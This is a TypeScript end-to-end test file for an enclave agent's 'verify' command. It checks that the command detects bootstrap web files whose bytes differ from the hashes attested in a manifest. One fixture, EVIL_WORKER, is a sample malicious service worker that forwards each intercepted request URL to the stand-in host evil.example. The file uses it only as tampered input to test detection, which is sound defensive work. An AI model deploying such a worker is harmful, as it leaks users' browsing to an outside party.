/**
 * The bootstrap hashes end to end on loopback: a real agent (mock NSM) in front of a small app that
 * serves bootstrap files from a table the tests edit, with a manifest attesting some of them
 * (addBootstrapHashes). `verify` (called directly and through the built CLI) must pass while the app serves
 * the attested bytes, fail naming the path with both hashes when one file changes, fail when an attested
 * file cannot be fetched, and under `--bootstrap require` fail on a served file the manifest does not list.
 * Last, the built `demo` command is started and verified with `--bootstrap require`: its manifest attests
 * exactly the bytes its app serves. Every listener binds port 0 on 127.0.0.1; every wait has a deadline.
 */

import { spawn, type ChildProcess } from 'node:child_process';
import { CLI, runCli, type CliRun } from '../test/run-cli.js';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createMockPki, openMockNsm, writeMockPki, type MockPki, type Nsm } from '../nsm/index.js';
import { testAgentConfig } from '../test/agent-config.js';
import { silentLogger } from '../test/mock-documents.js';
import { startAgent, type RunningAgent } from './agent.js';
import { DEMO_MANIFEST_JSON } from './demo/manifest.js';
import { addBootstrapHashes, hashBootstrapFiles, parseManifest } from './manifest.js';
import type { BootstrapReport } from './verify-bootstrap.js';
import { verifyRemote, type RemoteVerifyOptions } from './verify-remote.js';

const REPO = dirname(dirname(fileURLToPath(import.meta.url)));
/** Each test's bound; loopback answers take milliseconds, so only a hang comes near it. */
const TEST_TIMEOUT_MS = 20_000;
/** Deadline for a verification inside a test: a coded failure, well before the test's own bound. */
const VERIFY_TIMEOUT_MS = 10_000;
/** How long the demo may take to print its addresses (it writes a PKI and starts two servers). */
const DEMO_START_TIMEOUT_MS = 15_000;

const utf8 = (text: string) => new TextEncoder().encode(text);
const sha256Hex = (bytes: Uint8Array | string) => createHash('sha256').update(bytes).digest('hex');

/** What the image ships and attests; the app's table starts as a copy. */
const SHIPPED = new Map<string, Uint8Array>([
  ['/', utf8('<!doctype html><script type="module" src="/register.js"></script>')],
  ['/enclave-sw.js', utf8('self.addEventListener("fetch", () => {});')],
  ['/register.js', utf8('navigator.serviceWorker.register("/enclave-sw.js");')],
]);
const HASHES = hashBootstrapFiles(SHIPPED);
const EVIL_WORKER = utf8('self.addEventListener("fetch", (e) => fetch("https://evil.example/?" + e.request.url));');

let work: string;
let pki: MockPki;
let rootPem: string;
let nsm: Nsm;
let agent: RunningAgent;
let agentUrl: string;
let origin: string;
let app: Server;
let appOrigin: string;
/** What the app serves now, by path; anything else is 404. */
const served = new Map<string, Uint8Array>();
/** Paths the app answers with this status instead. */
const statusOverride = new Map<string, number>();
const appRequests: string[] = [];

function createApp(): Server {
  return createServer((req, res) => {
    const path = req.url ?? '/';
    appRequests.push(path);
    const status = statusOverride.get(path);
    const bytes = served.get(path);
    if (status !== undefined) {
      res.writeHead(status, status >= 300 && status < 400 ? { location: '/' } : {});
      res.end();
    } else if (req.method === 'GET' && bytes !== undefined) {
      res.writeHead(200, { 'content-type': path === '/' ? 'text/html' : 'text/javascript', 'content-length': String(bytes.length) });
      res.end(bytes);
    } else {
      res.writeHead(404, { 'content-type': 'text/plain' });
      res.end('not found');
    }
  });
}

/** Runs `fn` with the app's table changed by `change`, and restores it afterwards. */
async function withApp<T>(change: () => void, fn: () => Promise<T>): Promise<T> {
  try {
    change();
    return await fn();
  } finally {
    served.clear();
    for (const [path, bytes] of SHIPPED) served.set(path, bytes);
    statusOverride.clear();
  }
}

function verify(extra: Partial<RemoteVerifyOptions> = {}) {
  return verifyRemote({ url: new URL(agentUrl), root: pki.root.der, policy: { kind: 'none' }, timeoutMs: VERIFY_TIMEOUT_MS, ...extra });
}

/** The AGENT_VERIFY_BOOTSTRAP a promise rejects with, and its per-path report. */
async function bootstrapFailure(promise: Promise<unknown>): Promise<{ message: string; report: BootstrapReport }> {
  const err = await promise.then(
    () => {
      throw new Error('expected AGENT_VERIFY_BOOTSTRAP, but verification passed');
    },
    (e: unknown) => e,
  );
  expect(err).toMatchObject({ code: 'AGENT_VERIFY_BOOTSTRAP' });
  const { message, detail } = err as { message: string; detail?: { bootstrap?: BootstrapReport } };
  expect(detail?.bootstrap).toBeDefined();
  return { message, report: detail!.bootstrap! };
}

/** Runs the built CLI without blocking this process's event loop (the agent it talks to lives here). */
const cli = (args: readonly string[]): Promise<CliRun> => runCli(args, { cwd: work, timeoutMs: TEST_TIMEOUT_MS - 2000 });

const line = (path: string, rest: string) => `    ${path.padEnd(34)} ${rest}`;

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'enclave-agent-bootstrap-e2e-'));
  pki = createMockPki();
  await writeMockPki(join(work, 'pki'), pki);
  rootPem = join(work, 'pki', 'root.pem');
  for (const [path, bytes] of SHIPPED) served.set(path, bytes);
  app = createApp();
  app.listen(0, '127.0.0.1');
  await once(app, 'listening');
  appOrigin = `http://127.0.0.1:${(app.address() as AddressInfo).port}`;
  const manifest = parseManifest(addBootstrapHashes(utf8(DEMO_MANIFEST_JSON), HASHES), 'bootstrap e2e manifest');
  nsm = openMockNsm({ pki, logger: silentLogger });
  agent = await startAgent({ config: testAgentConfig({ upstream: appOrigin }), nsm, manifest, logger: pino({ level: 'silent' }) });
  origin = `http://${agent.addresses.public}`;
  agentUrl = `${origin}/attestation`;
}, 60_000);

afterAll(async () => {
  await agent?.stop();
  await nsm?.close();
  if (app !== undefined) {
    app.closeAllConnections();
    await new Promise<void>((resolve) => app.close(() => resolve()));
  }
  if (work !== undefined) await rm(work, { recursive: true, force: true });
});

describe('verify compares the bootstrap files with the attested hashes', () => {
  it('all attested files match: passes, with a result per path', { timeout: TEST_TIMEOUT_MS }, async () => {
    const report = await verify();
    expect(report.manifest.bootstrap).toEqual(Object.fromEntries(HASHES));
    expect(report.bootstrap.mode).toBe('check');
    expect(report.bootstrap.origin).toBe(origin);
    expect(report.bootstrap.results.map((r) => [r.path, r.outcome, r.actual])).toEqual([
      ['/', 'match', HASHES.get('/')],
      ['/enclave-sw.js', 'match', HASHES.get('/enclave-sw.js')],
      ['/register.js', 'match', HASHES.get('/register.js')],
      ['/attestation-widget.js', 'not_attested', null],
      ['/xwing/steve_xwing_wasm_bg.wasm', 'not_attested', null],
    ]);
    // check mode fetches only what is attested.
    expect(appRequests).not.toContain('/attestation-widget.js');
  });

  it('one file changed on the app: AGENT_VERIFY_BOOTSTRAP naming the path, the attested and the served hash', { timeout: TEST_TIMEOUT_MS }, async () => {
    const { message, report } = await withApp(() => served.set('/enclave-sw.js', EVIL_WORKER), () => bootstrapFailure(verify()));
    expect(message).toBe(`/enclave-sw.js: MISMATCH: the manifest attests sha256 ${HASHES.get('/enclave-sw.js')}, the origin served sha256 ${sha256Hex(EVIL_WORKER)} (${EVIL_WORKER.length} bytes)`);
    expect(report.results.map((r) => [r.path, r.outcome])).toEqual([
      ['/', 'match'],
      ['/enclave-sw.js', 'mismatch'],
      ['/register.js', 'match'],
      ['/attestation-widget.js', 'not_attested'],
      ['/xwing/steve_xwing_wasm_bg.wasm', 'not_attested'],
    ]);
  });

  it('an attested file that is missing, failing or redirected fails the run', { timeout: TEST_TIMEOUT_MS }, async () => {
    const missing = await withApp(() => served.delete('/register.js'), () => bootstrapFailure(verify()));
    expect(missing.message).toBe(`/register.js: attested (sha256 ${HASHES.get('/register.js')}) but not fetched: HTTP 404`);
    const broken = await withApp(() => statusOverride.set('/', 500), () => bootstrapFailure(verify()));
    expect(broken.message).toBe(`/: attested (sha256 ${HASHES.get('/')}) but not fetched: HTTP 500`);
    const redirected = await withApp(() => statusOverride.set('/enclave-sw.js', 302), () => bootstrapFailure(verify()));
    expect(redirected.message).toMatch(/^\/enclave-sw\.js: attested .* but not fetched: HTTP 302: redirects are not followed$/);
  });

  it('require: passes while every other path is 404; a served file the manifest does not list fails', { timeout: TEST_TIMEOUT_MS }, async () => {
    const report = await verify({ bootstrap: { mode: 'require' } });
    expect(report.bootstrap.results.slice(3).map((r) => [r.path, r.outcome, r.status])).toEqual([
      ['/attestation-widget.js', 'not_served', 404],
      ['/xwing/steve_xwing_wasm_bg.wasm', 'not_served', 404],
    ]);
    const widget = utf8('customElements.define("x", class extends HTMLElement {});');
    // check reports it and passes; require fails on it.
    const checked = await withApp(() => served.set('/attestation-widget.js', widget), () => verify());
    expect(checked.bootstrap.results[3]).toMatchObject({ path: '/attestation-widget.js', outcome: 'not_attested', passed: true });
    const required = await withApp(() => served.set('/attestation-widget.js', widget), () => bootstrapFailure(verify({ bootstrap: { mode: 'require' } })));
    expect(required.message).toBe(`/attestation-widget.js: served (HTTP 200, sha256 ${sha256Hex(widget)}) but not attested`);
  });

  it('skip fetches nothing and passes whatever is served', { timeout: TEST_TIMEOUT_MS }, async () => {
    const before = appRequests.length;
    const report = await withApp(() => served.set('/enclave-sw.js', EVIL_WORKER), () => verify({ bootstrap: { mode: 'skip' } }));
    expect(report.bootstrap).toEqual({ mode: 'skip', origin: null, attested: true, results: [] });
    expect(appRequests.length).toBe(before);
  });

  it('--bootstrap-origin: the files are fetched from the origin given', { timeout: TEST_TIMEOUT_MS }, async () => {
    const report = await verify({ bootstrap: { mode: 'check', origin: new URL(appOrigin) } });
    expect(report.bootstrap.origin).toBe(appOrigin);
    expect(report.bootstrap.results.filter((r) => r.outcome === 'match')).toHaveLength(3);
  });

  it('TOFU records nothing when the bootstrap check fails', { timeout: TEST_TIMEOUT_MS }, async () => {
    const path = join(work, 'tofu-bootstrap.json');
    await withApp(() => served.set('/enclave-sw.js', EVIL_WORKER), () => bootstrapFailure(verify({ policy: { kind: 'tofu', path } })));
    expect(existsSync(path)).toBe(false);
  });
});

describe('the built CLI: enclave-agent verify and the bootstrap files', () => {
  it('exit 0 with the per-path report (text and --json)', { timeout: TEST_TIMEOUT_MS }, async () => {
    const [text, json] = await Promise.all([cli(['verify', '--url', agentUrl, '--root', rootPem]), cli(['verify', '--url', agentUrl, '--root', rootPem, '--json'])]);
    expect(text.status, text.stderr).toBe(0);
    expect(text.stdout).toContain(`  bootstrap       3 attested files match what ${origin} served; 2 paths not attested (--bootstrap check)\n`);
    expect(text.stdout).toContain(`${line('/enclave-sw.js', `match           sha256:${HASHES.get('/enclave-sw.js')} (${SHIPPED.get('/enclave-sw.js')!.length} bytes)`)}\n`);
    expect(text.stdout).toContain(`${line('/xwing/steve_xwing_wasm_bg.wasm', 'not attested')}\n`);
    expect(json.status, json.stderr).toBe(0);
    const parsed = JSON.parse(json.stdout) as { valid: boolean; bootstrap: { mode: string; passed: boolean; results: { path: string; outcome: string; expected: string | null; actual: string | null }[] } };
    expect(parsed.valid).toBe(true);
    expect(parsed.bootstrap).toMatchObject({ mode: 'check', origin, attested: true, passed: true });
    expect(parsed.bootstrap.results.map((r) => [r.path, r.outcome])).toEqual([
      ['/', 'match'],
      ['/enclave-sw.js', 'match'],
      ['/register.js', 'match'],
      ['/attestation-widget.js', 'not_attested'],
      ['/xwing/steve_xwing_wasm_bg.wasm', 'not_attested'],
    ]);
  });

  it('exit 1 when one file changed, naming the path with the attested and the served hash', { timeout: TEST_TIMEOUT_MS }, async () => {
    const [text, json, skipped] = await withApp(
      () => served.set('/enclave-sw.js', EVIL_WORKER),
      () =>
        Promise.all([
          cli(['verify', '--url', agentUrl, '--root', rootPem]),
          cli(['verify', '--url', agentUrl, '--root', rootPem, '--json']),
          cli(['verify', '--url', agentUrl, '--root', rootPem, '--bootstrap', 'skip']),
        ]),
    );
    const expected = HASHES.get('/enclave-sw.js')!;
    const actual = sha256Hex(EVIL_WORKER);
    expect(text.status, text.stderr).toBe(1);
    expect(text.stdout.split('\n')[0]).toBe(`INVALID AGENT_VERIFY_BOOTSTRAP: /enclave-sw.js: MISMATCH: the manifest attests sha256 ${expected}, the origin served sha256 ${actual} (${EVIL_WORKER.length} bytes)`);
    expect(text.stdout).toContain(line('/enclave-sw.js', `MISMATCH        attested sha256:${expected}, served sha256:${actual} (${EVIL_WORKER.length} bytes)`));
    expect(text.stdout).toContain(line('/register.js', `match           sha256:${HASHES.get('/register.js')}`));
    expect(text.stderr).toBe('');
    expect(json.status, json.stderr).toBe(1);
    const parsed = JSON.parse(json.stdout) as { valid: boolean; code: string; bootstrap: { passed: boolean; results: { path: string; outcome: string; expected: string; actual: string }[] } };
    expect(parsed).toMatchObject({ valid: false, code: 'AGENT_VERIFY_BOOTSTRAP', bootstrap: { passed: false } });
    expect(parsed.bootstrap.results[1]).toMatchObject({ path: '/enclave-sw.js', outcome: 'mismatch', expected, actual });
    expect(skipped.status, skipped.stderr).toBe(0);
    expect(skipped.stdout).toContain('  bootstrap       NOT CHECKED (--bootstrap skip)');
  });

  it('exit 2 for a bad --bootstrap or --bootstrap-origin', { timeout: TEST_TIMEOUT_MS }, async () => {
    const runs = await Promise.all([
      cli(['verify', '--url', agentUrl, '--bootstrap', 'strict']),
      cli(['verify', '--url', agentUrl, '--bootstrap-origin', `${origin}/app`]),
    ]);
    for (const [i, message] of [/--bootstrap expected require, check or skip/, /--bootstrap-origin expected/].entries()) {
      expect(runs[i]!.status, runs[i]!.stderr).toBe(2);
      expect(runs[i]!.stderr).toMatch(message);
      expect(runs[i]!.stdout).toBe('');
    }
  });
});

describe('enclave-agent demo', () => {
  let demo: ChildProcess | undefined;

  afterAll(async () => {
    if (demo !== undefined && demo.exitCode === null && demo.signalCode === null) {
      const exited = once(demo, 'exit');
      demo.kill('SIGTERM');
      const timer = setTimeout(() => demo?.kill('SIGKILL'), 10_000);
      await exited;
      clearTimeout(timer);
    }
  });

  it('serves a manifest whose bootstrap hashes are those of the files its app serves (verify --bootstrap require passes)', { timeout: 2 * TEST_TIMEOUT_MS }, async () => {
    const env = { ...process.env };
    delete env.NODE_OPTIONS;
    demo = spawn(process.execPath, [CLI, 'demo', '--listen', '127.0.0.1:0', '--app-listen', '127.0.0.1:0', '--internal-listen', '127.0.0.1:0'], { cwd: work, env, stdio: ['ignore', 'pipe', 'pipe'] });
    let stdout = '';
    let stderr = '';
    const started = new Promise<{ public: string; root: string }>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`the demo did not start within ${DEMO_START_TIMEOUT_MS} ms:\n${stdout}\n${stderr}`)), DEMO_START_TIMEOUT_MS);
      const check = () => {
        const root = /mock root (\S+)/.exec(stderr)?.[1];
        const listening = stdout
          .split('\n')
          .filter((l) => l.includes('"agent listening"'))
          .map((l) => JSON.parse(l) as { addresses: { public: string } })[0];
        if (root !== undefined && listening !== undefined) {
          clearTimeout(timer);
          resolve({ public: listening.addresses.public, root });
        }
      };
      demo!.stdout!.setEncoding('utf8').on('data', (chunk: string) => ((stdout += chunk), check()));
      demo!.stderr!.setEncoding('utf8').on('data', (chunk: string) => ((stderr += chunk), check()));
      demo!.on('exit', (code) => reject(new Error(`the demo exited (${code}):\n${stdout}\n${stderr}`)));
    });
    const { public: address, root } = await started;
    const run = await cli(['verify', '--url', `http://${address}/attestation`, '--root', root, '--bootstrap', 'require', '--json']);
    expect(run.status, run.stdout + run.stderr).toBe(0);
    const report = JSON.parse(run.stdout) as { manifest: { bootstrap: Record<string, string> }; bootstrap: { passed: boolean; results: { path: string; outcome: string }[] } };
    expect(report.bootstrap.passed).toBe(true);
    // The page at least; the bundles too when dist/browser is built (npm ci builds it); the X-Wing module is not served.
    const outcomes = Object.fromEntries(report.bootstrap.results.map((r) => [r.path, r.outcome]));
    expect(outcomes['/']).toBe('match');
    expect(outcomes['/xwing/steve_xwing_wasm_bg.wasm']).toBe('not_served');
    for (const path of Object.keys(report.manifest.bootstrap)) expect(outcomes[path]).toBe('match');
    for (const bundle of ['enclave-sw.js', 'register.js', 'attestation-widget.js']) {
      if (existsSync(join(REPO, 'dist', 'browser', bundle))) expect(outcomes[`/${bundle}`]).toBe('match');
    }
  });
});
